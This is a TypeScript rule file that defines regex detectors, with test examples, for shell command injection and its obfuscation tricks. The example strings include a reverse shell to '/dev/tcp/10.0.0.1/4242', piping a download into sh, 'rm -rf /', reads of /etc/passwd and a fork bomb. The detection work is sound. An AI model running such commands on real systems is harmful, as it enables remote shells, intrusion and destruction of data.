// biome-ignore-all lint/suspicious/noTemplateCurlyInString: examples of attacks hold them.
import type { RuleText } from '../rule-text.ts';

const OWASP = 'https://owasp.org/www-community/attacks/Command_Injection';
const BASH = 'https://www.gnu.org/software/bash/manual/bash.html';
const GTFO = 'https://gtfobins.github.io/';

/** Command lines that attackers run, and the ways in which shells let them hide. */
export const COMMAND_LINES: readonly RuleText[] = [
  {
    id: 'cmd-typical',
    alert: 'A command line that attackers run',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.96,
    where: ['path', 'name', 'value', 'header:user-agent', 'header:x-forwarded-for'],
    match: {
      regex: String.raw`\b(?:cat|head|tail|more|less|tac|nl|strings|vi|nano|cp|mv|rm|dd|ls|grep|find|xxd|base64|od|sort|awk|sed) +(?:-\S+\s+)*(?:\S{1,30}\s+)?(?:if=|of=)?(?:file://)?/(?:etc|proc|root|var/(?:log|www|spool|lib)|home/|boot|sys)\b|\brm\s+-[rf]{1,3}\b|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+[rwxs]+)\s|\b(?:nc|ncat|netcat)(?:\.\w+)?\s+(?:-\w+\s+)*(?:-[lecnvp]+|\d{1,3}(?:\.\d{1,3}){3}\s+\d)|\b(?:ba|z|k|da|c)?sh\s+-[ic]+(?:\s|$)|\b(?:python|python2|python3|perl|ruby|php|node|lua|tclsh) +-(?:c|e|r|le|ne|rsocket|m)\s*['"(\w]|\b(?:wget|curl|lwp-download|fetch|axel|lynx)\s+(?:-{1,2}[\w-]+(?:[= ][^\s-]\S*)?\s+)*['"]?(?:https?|ftp)://\S|\bping\s+-[cn]\s*\d|\bping6?\s+\d{1,3}(?:\.\d{1,3}){3}|\bnslookup\s+[\w-]+\.\w|\bdig\s+\S{0,20}\s*[\w-]+\.\w{2,}.{0,20}\bcd\s|\buname\s+-[amnrsv]|\bls\s+-[altrh]{1,5}(?:\s|$)|^\W{0,4}id\s*;\s*(?:$|[a-z]{2,8}\s+[-/]|uname|whoami|ls\b|cat\b|echo\b|pwd\b)|[;|&\x60]\s*id\s*;\s*(?:$|#|[a-z]{2,8}\s+[-/]|uname|whoami|echo\b)|\bfind\s+/\w*\s+-(?:name|type|perm|exec)\b|\bnet(?:stat)?\s+-[antpul]{2,}|\bps\s+(?:-ef|aux)\b|\bcd\s+/\w*\s*;|\bkill\s+-\d|\buseradd\s|\bexport\s+\w+=.{0,40};`,
    },
    examples: {
      match: [
        'cat /etc/passwd',
        'rm -rf /',
        'bash -i',
        "python -c 'import os'",
        'wget http://a.example/x.sh',
        'ping -c 4 a',
      ],
      spare: ['Name; ID; Email', 'cat food', 'ping me', 'the room -r', 'wget manual', 'find a home'],
    },
    source: OWASP,
  },
  {
    id: 'cmd-reverse-shell',
    alert: 'A shell that is connected to the network',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.98,
    where: 'any',
    match: {
      regex: String.raw`/dev/(?:tcp|udp)/[\w.-]+|\b(?:0|1|2)?[<>]&\s?(?:\d|/dev/)|\bmkfifo\s+/|\bexec\s+\d+<>|\bsocket\.socket\s*\(|\bpty\.spawn\s*\(|\bsocket\s*\(\s*s\s*,\s*pf_inet|\bfsockopen\s*\(|\btcpsocket\.(?:new|open)|system\.net\.sockets\.tcpclient|\bsocat\s+\S+:\S`,
    },
    examples: {
      match: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'mkfifo /tmp/f', 'exec 5<>/dev/tcp/1.2.3.4/80'],
      spare: ['/dev/null', 'tcp/ip', 'a <> b'],
    },
    source: 'https://attack.mitre.org/techniques/T1059/004/',
  },
  {
    id: 'cmd-pipe-to-shell',
    alert: 'Something is piped into a shell or an interpreter',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.96,
    where: 'any',
    match: {
      regex: String.raw`\s\S*\|\s*(?:/(?:usr/)?bin/)?(?:ba|z|k|da|c|tc|a)?sh\b(?:\s*$|\s*[;&|\x60)'"]|\s+-)|\|\s?/(?:usr/)?bin/\w|\|\s*(?:python[23]?|perl|ruby|php|node|xargs|tee|base64|xxd)\s+(?:-|/)|\s\|\s*(?:xargs|tee|base64|rev|xxd)\s*(?:$|\|)|<<<\s*['"$\w]|\bbase64\s+(?:-d|--decode|-di)\b`,
    },
    examples: {
      match: ['curl a.example | sh', 'printf x|base64 -d|sh', 'cat<<<ifconfig'],
      spare: ['a | b', 'fish|show', 'x << y'],
    },
    source: BASH,
  },
  {
    id: 'cmd-variables',
    alert: 'Variables of a shell hide a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.95,
    where: 'any',
    match: {
      regex: String.raw`\$\{?ifs\b|\$\{path[:#%]|\$\{path\}|\$\{\w{1,20}:\d+:\d+\}|\$\{[a-z_]{1,20}#\{|(?:^|[;&|\s])\w{1,12}=[\w/\\'" -]{0,30}(?:;|&&|&)\s*(?:\w{1,12}=\S{0,30}\s*(?:;|&&|&)\s*)*\$\w|\w\$[@*]\w|\w\$\{\w{0,3}\}\w|^\w{1,8}\$\$\w{1,8}(?:\s|$)|;\s*\w+\$\$\w|[;|&]\s*\$\{[\w.]+\}\w|\|\$\w\s+\S|;\s*\$\w{1,3}\s?\w{1,8}\s|\w\$u[\s/\\]|\$'(?:\\+x[0-9a-f]{2}|\\+[0-7]{3}){2}`,
    },
    examples: {
      match: ['cat${IFS}/etc/passwd', 'a=nc&&$a -nlvp 555', 'c$@at /etc/hosts'],
      spare: ['us$5 and $10', '${name}', 'a=1&b=2'],
    },
    source: BASH,
  },
  {
    id: 'cmd-glob',
    alert: 'Wildcards stand for letters of a path',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.94,
    where: ['name', 'value', 'header:user-agent', 'header:referer', 'path'],
    match: {
      regex: String.raw`/\?{2,3}/\w*\?[\w?*]{0,12}|/\[?[\w?*!-]*[?*\[][\w?*\]!/-]*/?(?:passwd|shadow|hosts)\b|/et[*?]+/|/(?:etc|bin|usr|var)/[\w]*(?:[*?]|\[[\w!/-]+\])[\w*?]*(?:\s|$|/)|/(?:bi?\[\w\]n?|\[b\]in|b\[i\]n|usr/\[?\w)\S{0,4}/(?:\w+|\[)|/\[\w+/*\]tc/|/usr/bin/\[|/usr/\[[a-z]-z\]in|(?:^|\s|;)/\w*[?*]\w*/[\w*?]+\s+/|/(?:passw|pa)[?*\[]|/\?asswd`,
    },
    examples: {
      match: ['/???/b??h', 'cat /et*/pas*d', '/bi[n]/bash', '/etc/pas[s]wd'],
      spare: ['/a?b=c', '*.txt', '/images/*'],
    },
    source: BASH,
  },
  {
    id: 'cmd-brace-expansion',
    alert: 'A command in braces, without spaces',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: ['name', 'value', 'path'],
    match: {
      regex: String.raw`\{,\$?['"]?[\w?/]+['"]?,|\{\w{1,12},-{1,2}\w|\w\{\w{1,6},\w{1,6}\}\w|\{['"]?(?:cat|ls|nc|wget|curl|ping|bash|sh|echo|rm|uname|whoami|ifconfig|netstat|cd|cp|mv|chmod|python\d?|perl|base64),[^{}:]{0,80}\}`,
    },
    examples: {
      match: ['{cat,/etc/passwd}', '{,ifconfig,eth0}', '{l,-lh}s'],
      spare: ['{"a":1,"b":2}', '{name}', '{a: 1, b: 2}'],
    },
    source: 'https://www.gnu.org/software/bash/manual/html_node/Brace-Expansion.html',
  },
  {
    id: 'cmd-fork-bomb',
    alert: 'A function of a shell that starts itself without end',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.97,
    where: 'any',
    match: { regex: String.raw`[:\w.]{1,20} ?\( ?\) ?\{\s*[:\w.]{1,20}\s*[|&]\s*[:\w.]{1,20}\s*[&;]` },
    examples: { match: [':(){ :|:& };:', 'f(){ f|f& };f'], spare: ['function f(){ return a }', 'f() {a && b}'] },
    source: 'https://cwe.mitre.org/data/definitions/400.html',
  },
  {
    id: 'cmd-alias',
    alert: 'An alias or a function of a shell is defined',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'block',
    confidence: 0.92,
    where: ['value', 'header:user-agent'],
    match: { regex: String.raw`\balias\s+['"]?[\w-]+['"]?=['"]?\S` },
    examples: { match: ["alias ls-al='ls -al'", 'alias a=b'], spare: ['alias name', 'alias: a=b'] },
    source: BASH,
  },
  {
    id: 'cmd-expansion-probe',
    alert: 'A value is only an expansion of a shell: of history, directory or arithmetic',
    evidence: 'COMMAND_INJECTION',
    severity: 'low',
    action: 'alert',
    confidence: 0.9,
    where: ['value'],
    match: { regex: String.raw`^(?:~[+-]\d*|!-?\d+(?:!?-\d+)?|~\d)$|![-]\d+![-]\d` },
    examples: { match: ['~+', '!-1!-2'], spare: ['~john', '-1', 'wow!'] },
    source: 'https://www.gnu.org/software/bash/manual/html_node/Tilde-Expansion.html',
  },
  {
    id: 'cmd-awk-or-find-exec',
    alert: 'A program is told to run another one',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.94,
    where: 'any',
    match: {
      regex: String.raw`\s-exec(?:dir)?\s+\S|\s-wrapper\s+\w+,|--checkpoint-action=|\s-c\s*:!|:\\?!\s*\w{2,12}|--to-command=|-o\s*proxycommand=|--use-askpass|\bbegin\s*\{\s*system\s*\(|--post-file=|\s--(?:upload-file|data-binary)\s+@|\s-d\s+@/|\s-nlvp\b|,-nlvp,`,
    },
    examples: {
      match: ['find / -exec cat {} +', 'c99 -wrapper sh,-c,id .', 'tar --checkpoint-action=exec=sh'],
      spare: ['an exec of the firm', 'wrapper paper'],
    },
    source: GTFO,
  },
];
